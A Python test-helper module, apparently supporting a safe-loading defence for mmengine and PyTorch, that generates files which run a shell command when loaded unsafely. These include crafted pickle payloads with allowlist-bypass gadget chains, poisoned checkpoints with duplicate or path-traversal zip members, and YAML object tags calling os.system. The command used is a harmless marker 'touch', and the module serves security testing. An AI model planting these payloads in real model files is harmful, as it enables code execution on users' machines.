"""Files that run a command when they are loaded unsafely, for malicious.py: pickles, checkpoints, YAML."""

import argparse
import functools
import io
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
import yaml
from mmengine.config import Config
from mmengine.logging import HistoryBuffer
from mmengine.runner import CheckpointLoader


class Call:
    """Pickled as the call of a function, which unpickling makes; function and arguments may be calls, too."""

    def __init__(self, function: Callable, *args) -> None:
        self.function, self.args = function, args

    def __call__(self) -> None:
        raise NotImplementedError('pickle asks that a function can be called')

    def __reduce__(self) -> tuple:
        return self.function, self.args


def text(value: str) -> bytes:
    """Opcode that puts text on the stack."""
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def chain(command: str) -> Call:
    """Reach os.system from a type that checkpoints may hold, by nothing but getattr."""
    scope = Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__globals__')
    builtins = Call(Call(getattr, scope, 'get'), '__builtins__')
    imported = Call(Call(Call(getattr, builtins, 'get'), '__import__'), 'os')
    return Call(Call(getattr, imported, 'system'), command)


# Pickles that run a command, by name.
PICKLES: dict[str, Callable[[str], bytes]] = {
    'REDUCE': lambda run: pickle.dumps(Call(os.system, run), 2),
    'getattr chain from an allowed type': lambda run: pickle.dumps(chain(run), 2),
    'object array': lambda run: pickle.dumps(np.array([Call(os.system, run)], dtype=object), 2),
    'INST': lambda run: b'(' + text(run) + b'ios\nsystem\n.',
    'OBJ': lambda run: b'(cos\nsystem\n' + text(run) + b'o.',
    'STACK_GLOBAL, dotted name in torch': lambda run: (
        b'\x80\x04' + text('torch') + text('os.system') + b'\x93' + text(run) + b'\x85R.'
    ),
    'BUILD sets __setstate__ of an allowed type': lambda run: (
        b'\x80\x02cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81}'
        + text('__setstate__')
        + b'cos\nsystem\nsb'
        + text(run)
        + b'b.'
    ),
    'BUILD sets __setstate__ of argparse.Namespace': lambda run: (
        b'\x80\x02cargparse\nNamespace\n)\x81}' + text('__setstate__') + b'cos\nsystem\nsb' + text(run) + b'b.'
    ),
    'builtin by its name in Python 2': lambda run: (
        b'\x80\x02c__builtin__\neval\n' + text(f'__import__("os").system({run!r})') + b'\x85R.'
    ),
    'persistent id': lambda run: b'\x80\x02(' + text('storage') + b'cos\nsystem\n' + text(run) + b'\x85RtQ.',
    '_rebuild_from_type_v2 of another function': lambda run: pickle.dumps(
        Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (run,), {}), 2
    ),
    'pickle within the storage of a tensor': lambda run: pickle.dumps(
        Call(torch.storage._load_from_bytes, pickle.dumps(Call(os.system, run), 2)), 2
    ),
}


# Checkpoints that run a command: each function writes one, made of a good one.


def write_zip(path: Path, content: bytes, names: tuple[str, ...] = ('archive/data.pkl',)) -> None:
    folder = names[0].rpartition('/')[0]
    with zipfile.ZipFile(path, 'w') as archive:
        for name in names:
            archive.writestr(name, content)
        archive.writestr(f'{folder}/version', '3\n')
        archive.writestr(f'{folder}/byteorder', 'little')


def write_at(place: str, path: Path, good: dict, run: str) -> None:
    torch.save({**good, place: {**good.get(place, {}), 'more': Call(os.system, run)}}, path)


def write_in_options(path: Path, good: dict, run: str) -> None:
    """Options of a training, as DINO saves them."""
    torch.save({**good, 'args': argparse.Namespace(lr=0.1, more=Call(os.system, run))}, path)


def write_legacy(path: Path, good: dict, run: str) -> None:
    torch.save({**good, 'more': Call(os.system, run)}, path, _use_new_zipfile_serialization=False)


def write_pickle(path: Path, good: dict, run: str) -> None:
    path.write_bytes(pickle.dumps(dict(state_dict=Call(os.system, run)), 2))


def write_tar(path: Path, good: dict, run: str) -> None:
    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as archive:
        for name in ('storages', 'tensors', 'pickle'):
            info = tarfile.TarInfo(name)
            info.size = len(PICKLES['REDUCE'](run))
            archive.addfile(info, io.BytesIO(PICKLES['REDUCE'](run)))


def write_two_members(path: Path, good: dict, run: str) -> None:
    """The first data.pkl is hostile, which torch takes; readers that go by the directory of the zip find the second."""
    torch.save(good, path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    (name,) = [name for name in members if name.endswith('/data.pkl')]
    with zipfile.ZipFile(path, 'w') as archive, warnings.catch_warnings():
        warnings.simplefilter('ignore')  # of the second of that name
        archive.writestr(name, PICKLES['REDUCE'](run))
        for name, content in members.items():
            archive.writestr(name, content)


def write_torchscript(path: Path, good: dict, run: str) -> None:
    """A program that writes the marker when its module is loaded; it has no shell."""
    torch.jit.script(Program(run.removeprefix('touch '))).save(str(path))


class Program(torch.nn.Module):
    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self):
        return self.marker, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.marker = state[0]
        self.training = state[1]
        torch.save(torch.ones(1), self.marker)


def write_text(place: tuple[str, ...], path: Path, good: dict, run: str) -> None:
    """Text that mmengine would run as Python."""
    holder = functools.reduce(dict.__getitem__, place[:-1], good)
    holder[place[-1]] = f"__import__('os').system({run!r})"
    torch.save(good, path)


TEXTS = {
    'text in meta/config': ('meta', 'config'),
    'text in meta/cfg': ('meta', 'cfg'),
    'text in message_hub/runtime_info/cfg': ('message_hub', 'runtime_info', 'cfg'),
}
CHECKPOINTS: dict[str, Callable[[Path, dict, str], None]] = {
    **{
        f'REDUCE in {place}': functools.partial(write_at, place)
        for place in ('state_dict', 'optimizer', 'message_hub', 'meta')
    },
    'REDUCE in the options of args': write_in_options,
    'REDUCE, format before torch 1.6': write_legacy,
    'REDUCE, bare pickle': write_pickle,
    'REDUCE, tar of torch 0.1': write_tar,
    **{
        f'{name}, zip': lambda path, good, run, make=make: write_zip(path, make(run))
        for name, make in PICKLES.items()
        if name != 'REDUCE'
    },
    'two members data.pkl': write_two_members,
    'member ../data.pkl': lambda path, good, run: write_zip(path, PICKLES['REDUCE'](run), ('../data.pkl',)),
    'TorchScript that writes a file': write_torchscript,
    **{name: functools.partial(write_text, place) for name, place in TEXTS.items()},
}


YAML = {
    '!!python/object/apply': 'a: !!python/object/apply:os.system [{run}]',
    '!!python/object/new': 'a: !!python/object/new:os.system [{run}]',
}


def write_file(name: str, path: Path, good: Path | None) -> Path:
    """Write a hostile file into a new folder, and return where its marker would be; ``good`` is a checkpoint."""
    path.parent.mkdir()
    marker = path.parent / 'marker'
    run = f'touch {marker}'
    if name in CHECKPOINTS:
        CHECKPOINTS[name](path, CheckpointLoader.load_checkpoint(str(good), 'cpu', logger='silent'), run)
    elif name in YAML:
        path.write_text(YAML[name].format(run=run))
    else:
        path.write_bytes(PICKLES[name](run))
    return marker


def load_unsafely(name: str, path: Path) -> None:
    """Do what the loaders of mmengine would do without this project, and torch before 2.6."""
    if name in YAML:
        yaml.load(path.read_text(), yaml.UnsafeLoader)
    elif name in PICKLES:
        pickle.loads(path.read_bytes())
    else:
        loaded = torch.load(path, map_location='cpu', weights_only=False)
        if name in TEXTS:
            Config.fromstring(functools.reduce(dict.__getitem__, TEXTS[name], loaded), '.py')
